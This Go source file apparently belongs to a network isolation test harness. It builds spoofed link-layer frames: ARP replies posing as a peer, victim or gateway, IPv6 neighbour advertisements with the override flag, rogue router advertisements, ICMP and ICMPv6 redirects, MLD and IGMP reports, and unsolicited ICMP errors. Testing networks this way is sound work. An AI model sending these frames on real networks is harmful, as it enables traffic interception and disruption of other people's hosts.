package attack

import (
	"bytes"
	"net"
	"net/netip"
)

// Lies to neighbours: ARP (RFC 826), neighbour discovery (RFC 4861), MLD (RFC 3810).

var otherMAC = net.HardwareAddr{2, 0, 0, 0, 0, 0x77}

func arp(op byte, mac net.HardwareAddr, ip netip.Addr, toMAC net.HardwareAddr, toIP netip.Addr) []byte {
	b := []byte{0, 1, 8, 0, 6, 4, 0, op}
	b = append(append(b, mac...), ip.AsSlice()...)
	return append(append(b, toMAC...), toIP.AsSlice()...)
}

// option is a link-layer address option: 1 of the source, 2 of the target.
func option(typ byte, mac net.HardwareAddr) []byte { return append([]byte{typ, 1}, mac...) }

// discovery is a frame of neighbour discovery. flags are the four bytes behind the checksum.
func (a *attempt) discovery(src, dst netip.Addr, to net.HardwareAddr, typ byte, flags byte, body ...[]byte) []byte {
	var data []byte
	for _, b := range body {
		data = append(data, b...)
	}
	return ether(a.attacker.mac, to, typeIPv6, ip6(src, dst, protoICMPv6, icmpHead(src, dst, typ, 0, [4]byte{flags}, data)))
}

// allNodes is where every neighbour listens, with its MAC (RFC 2464, 7).
var (
	allNodes    = netip.MustParseAddr("ff02::1")
	allNodesMAC = net.HardwareAddr{0x33, 0x33, 0, 0, 0, 1}
	broadcast   = net.HardwareAddr{0xff, 0xff, 0xff, 0xff, 0xff, 0xff}
)

func neighbours() []trick {
	arps := func(name string, build func(a *attempt) []byte) trick {
		return spoofed(name, func(a *attempt) [][]byte {
			return [][]byte{ether(a.attacker.mac, a.victim.mac, typeARP, build(a), a.token),
				ether(a.attacker.mac, broadcast, typeARP, build(a), a.token)}
		})
	}
	// These carry no token: a longer message would be dropped for its length alone.
	ns := func(name string, build func(a *attempt) []byte) trick {
		tr := spoofed(name, func(a *attempt) [][]byte { return [][]byte{build(a)} })
		tr.wins = func(a *attempt, _ *host, b []byte) bool { return bytes.Contains(b, build(a)[14:]) }
		return tr
	}
	return []trick{
		arps("arp_reply_as_peer", func(a *attempt) []byte { return arp(2, a.attacker.mac, a.peer.v4, a.victim.mac, a.victim.v4) }),
		arps("arp_request_as_peer", func(a *attempt) []byte {
			return arp(1, a.attacker.mac, a.peer.v4, make(net.HardwareAddr, 6), a.victim.v4)
		}),
		arps("arp_gratuitous_as_victim", func(a *attempt) []byte { return arp(1, a.attacker.mac, a.victim.v4, broadcast, a.victim.v4) }),
		arps("arp_as_gateway", func(a *attempt) []byte { return arp(2, a.attacker.mac, a.node.v4, a.victim.mac, a.victim.v4) }),
		arps("arp_with_other_mac", func(a *attempt) []byte { return arp(2, otherMAC, a.attacker.v4, a.victim.mac, a.victim.v4) }),
		arps("arp_probe_for_victim", func(a *attempt) []byte {
			return arp(1, a.attacker.mac, netip.IPv4Unspecified(), make(net.HardwareAddr, 6), a.victim.v4)
		}),
		arps("arp_of_another_kind", func(a *attempt) []byte {
			b := arp(2, a.attacker.mac, a.peer.v4, a.victim.mac, a.victim.v4)
			b[4] = 8 // longer hardware addresses move the others
			return b
		}),
		ns("na_override_of_peer", func(a *attempt) []byte {
			return a.discovery(a.attacker.v6, a.victim.v6, a.victim.mac, 136, 0x60, a.peer.v6.AsSlice(), option(2, a.attacker.mac))
		}),
		ns("na_override_of_gateway_to_all", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, allNodes, allNodesMAC, 136, 0xa0, a.node.v6.AsSlice(), option(2, a.attacker.mac))
		}),
		ns("na_with_other_mac", func(a *attempt) []byte {
			return a.discovery(a.attacker.v6, a.victim.v6, a.victim.mac, 136, 0x60, a.attacker.v6.AsSlice(), option(2, otherMAC))
		}),
		ns("na_with_second_option", func(a *attempt) []byte {
			return a.discovery(a.attacker.v6, a.victim.v6, a.victim.mac, 136, 0x60, a.attacker.v6.AsSlice(), option(2, a.attacker.mac), option(2, otherMAC))
		}),
		ns("ns_with_other_mac", func(a *attempt) []byte {
			return a.discovery(a.attacker.v6, a.victim.v6, a.victim.mac, 135, 0, a.victim.v6.AsSlice(), option(1, otherMAC))
		}),
		ns("ns_with_second_option", func(a *attempt) []byte {
			return a.discovery(a.attacker.v6, a.victim.v6, a.victim.mac, 135, 0, a.victim.v6.AsSlice(), option(1, a.attacker.mac), option(1, otherMAC))
		}),
		ns("ns_as_peer", func(a *attempt) []byte {
			return a.discovery(a.peer.v6, a.victim.v6, a.victim.mac, 135, 0, a.victim.v6.AsSlice(), option(1, a.attacker.mac))
		}),
		ns("ns_is_victims_address_free", func(a *attempt) []byte {
			return a.discovery(netip.IPv6Unspecified(), allNodes, allNodesMAC, 135, 0, a.victim.v6.AsSlice())
		}),
		ns("router_advertisement", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, allNodes, allNodesMAC, 134, 64, make([]byte, 8), option(1, a.attacker.mac))
		}),
		ns("router_advertisement_to_victim", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, a.victim.v6, a.victim.mac, 134, 64, make([]byte, 8), option(1, a.attacker.mac))
		}),
		ns("router_solicitation_to_victim", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, a.victim.v6, a.victim.mac, 133, 0, option(1, otherMAC))
		}),
		ns("icmpv6_redirect", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, a.victim.v6, a.victim.mac, 137, 0, a.attacker.link.AsSlice(), a.peer.v6.AsSlice(), option(2, a.attacker.mac))
		}),
		ns("mld_query", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, allNodes, allNodesMAC, 130, 0, make([]byte, 20))
		}),
		ns("mld_report_to_victim", func(a *attempt) []byte {
			return a.discovery(a.attacker.link, a.victim.v6, a.victim.mac, 143, 0, make([]byte, 20))
		}),
		ns("mld_report_from_nobody_to_victim", func(a *attempt) []byte {
			return a.discovery(netip.IPv6Unspecified(), a.victim.v6, a.victim.mac, 131, 0, allNodes.AsSlice())
		}),
	}
}

// messages are ICMP messages that nobody is owed.
func messages() []trick {
	var out []trick
	message := func(name string, v6 bool, typ, code byte) {
		out = append(out, raw(name, func(a *attempt) [][]byte {
			// What an error quotes: a segment of the victim's connection with the peer.
			quoted := ip4(a.victim.v4, a.peer.v4, protoTCP, nil, tcpHead(a.victim.v4, a.peer.v4, 80, 40000, flagACK, nil))
			proto := byte(protoICMP)
			if v6 {
				quoted = ip6(a.victim.v6, a.peer.v6, protoTCP, tcpHead(a.victim.v6, a.peer.v6, 80, 40000, flagACK, nil))
				proto = protoICMPv6
			}
			return [][]byte{a.packet(v6, a.victim, proto, icmpHead(a.attacker.addr(v6), a.victim.addr(v6), typ, code, [4]byte{0, 0, 2, 0}, append(quoted, a.token...)))}
		}))
	}
	message("icmp_echo", false, 8, 0)
	message("icmp_echo_reply", false, 0, 0)
	message("icmp_unreachable", false, 3, 3)
	message("icmp_too_big", false, 3, 4)
	message("icmp_quench", false, 4, 0)
	message("icmp_redirect", false, 5, 1)
	message("icmp_router_advertisement", false, 9, 0)
	message("icmp_time_exceeded", false, 11, 0)
	message("icmp_parameter_problem", false, 12, 0)
	message("icmp_timestamp", false, 13, 0)
	message("icmpv6_echo", true, 128, 0)
	message("icmpv6_echo_reply", true, 129, 0)
	message("icmpv6_unreachable", true, 1, 4)
	message("icmpv6_too_big", true, 2, 0)
	message("icmpv6_time_exceeded", true, 3, 0)
	message("icmpv6_parameter_problem", true, 4, 0)
	message("icmpv6_node_information", true, 139, 0)
	return append(out, raw("igmp_report", func(a *attempt) [][]byte {
		group := netip.MustParseAddr("224.0.0.22")
		return [][]byte{
			ether(a.attacker.mac, net.HardwareAddr{1, 0, 0x5e, 0, 0, 22}, typeIPv4, ip4(a.attacker.v4, group, 2, []byte{0x94, 4, 0, 0}, append([]byte{0x22, 0, 0, 0, 0, 0, 0, 1}, a.token...))),
			a.packet(false, a.victim, 2, append([]byte{0x11, 0, 0, 0, 0, 0, 0, 0}, a.token...))}
	}))
}
